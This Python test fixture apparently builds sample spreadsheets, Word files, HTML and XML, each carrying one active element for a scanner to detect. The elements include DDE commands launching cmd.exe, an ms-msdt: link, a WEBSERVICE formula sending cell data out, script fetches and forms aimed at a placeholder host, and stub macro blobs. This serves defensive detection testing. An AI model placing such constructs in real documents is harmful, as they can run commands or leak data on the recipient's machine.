"""Workbooks, documents, web pages and XML files that carry what could run or fetch: (file name, bytes)."""

from openpyxl import Workbook

from tests.builders.bad_sheets import SPREAD, Paper, book, relations, with_parts
from tests.builders.hidden_cells import web_page
from tests.builders.office import docx

CONNECTION = (
    f"<connections xmlns='{SPREAD}'><connection id='1' type='4'><webPr url='http://a.invalid/'/></connection></connections>"
).encode()
TEMPLATE = ("attachedTemplate", "http://a.invalid/t.dotm", "External")
CHUNK = ("aFChunk", "afchunk.htm", "Internal")
DDE_FIELD = (
    b"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"
    b"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p></w:body>"
)
STYLED = b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://a.invalid/x.xsl'?><r><a>Total assets 93,910</a></r>"


def _outside_book() -> bytes:
    link = f"<externalLink xmlns='{SPREAD}'/>".encode()
    told = relations(("externalLinkPath", "http://a.invalid/x.xlsx", "External"))
    folder = "xl/externalLinks"
    parts = {f"{folder}/externalLink1.xml": link, f"{folder}/_rels/externalLink1.xml.rels": told}
    return with_parts(book(), parts)


def _dde() -> bytes:
    link = f"<externalLink xmlns='{SPREAD}'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    return with_parts(book(), {"xl/externalLinks/externalLink1.xml": link.encode()})


def _formula(text: str) -> Paper:
    return lambda: (
        "a.xlsx",
        with_parts(book(), {}, {"xl/worksheets/sheet1.xml": (b"<v>93910</v>", f"<f>{text}</f><v>93910</v>".encode())}),
    )


def _linked(target: str) -> Paper:
    def make() -> tuple[str, bytes]:
        def fill(made: Workbook) -> None:
            sheet = made.active
            assert sheet is not None
            sheet["A9"].hyperlink = target

        return "a.xlsx", book(fill)

    return make


def _doc(parts: dict[str, bytes], edits: dict[str, tuple[bytes, bytes]] | None = None) -> Paper:
    return lambda: ("a.docx", with_parts(docx(["Total assets are 93,910 thousand."], []), parts, edits))


ACTIVE: dict[str, Paper] = {
    "sheet: macros": lambda: ("a.xlsx", with_parts(book(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})),
    "sheet: outside workbook": lambda: ("a.xlsx", _outside_book()),
    "sheet: DDE link": lambda: ("a.xlsx", _dde()),
    "sheet: DDE formula": _formula("cmd|'/c calc'!A1"),
    "sheet: web service": _formula("_xlfn.WEBSERVICE(&quot;http://a.invalid/&quot;&amp;A1)"),
    "sheet: OLE object": lambda: ("a.xlsx", with_parts(book(), {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})),
    "sheet: ActiveX": lambda: ("a.xlsx", with_parts(book(), {"xl/activeX/activeX1.xml": b"<ax/>", "xl/activeX/activeX1.bin": bytes(100)})),
    "sheet: connection": lambda: ("a.xlsx", with_parts(book(), {"xl/connections.xml": CONNECTION})),
    "sheet: file link": _linked("file:///c:/windows/system32/calc.exe"),
    "sheet: script link": _linked("javascript:alert(1)"),
    "document: macros": _doc({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}),
    "document: outside template": _doc({"word/_rels/settings.xml.rels": relations(TEMPLATE)}),
    "document: OLE object": _doc({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}),
    "document: DDE field": _doc({}, {"word/document.xml": (b"</w:body>", DDE_FIELD)}),
    "document: outside picture": _doc({"word/_rels/document.xml.rels": relations(("image", "http://a.invalid/p.png", "External"))}),
    "document: odd link": _doc({"word/_rels/document.xml.rels": relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))}),
    "document: other text in": _doc({"word/afchunk.htm": b"<html></html>", "word/_rels/document.xml.rels": relations(CHUNK)}),
    "web: script": lambda: ("a.html", web_page("</table><script>fetch('http://a.invalid/')</script><table>")),
    "web: handler": lambda: ("a.html", web_page("</table><p onclick='x()'>Note</p><table>")),
    "web: script link": lambda: ("a.html", web_page("</table><a href=' java\tscript:x()'>Note</a><table>")),
    "web: frame": lambda: ("a.html", web_page("</table><iframe src='http://a.invalid/'></iframe><table>")),
    "web: form": lambda: ("a.html", web_page("</table><form action='http://a.invalid/'><input name='a'></form><table>")),
    "web: outside picture": lambda: ("a.html", web_page("</table><img src='http://a.invalid/p.png'><table>")),
    "web: outside style": lambda: ("a.html", web_page("</table><link rel='stylesheet' href='http://a.invalid/s.css'><table>")),
    "web: refresh": lambda: ("a.html", web_page("</table><meta http-equiv='refresh' content='0;url=http://a.invalid/'><table>")),
    "web: object": lambda: ("a.html", web_page("</table><object data='http://a.invalid/o.swf'></object><embed src='x'><table>")),
    "web: svg script": lambda: ("a.html", web_page("</table><svg onload='x()'><script>1</script></svg><table>")),
    "xml: style sheet": lambda: ("a.xml", STYLED),
}  # fmt: skip
"""Each carries one thing that could run or fetch: reported, never run."""
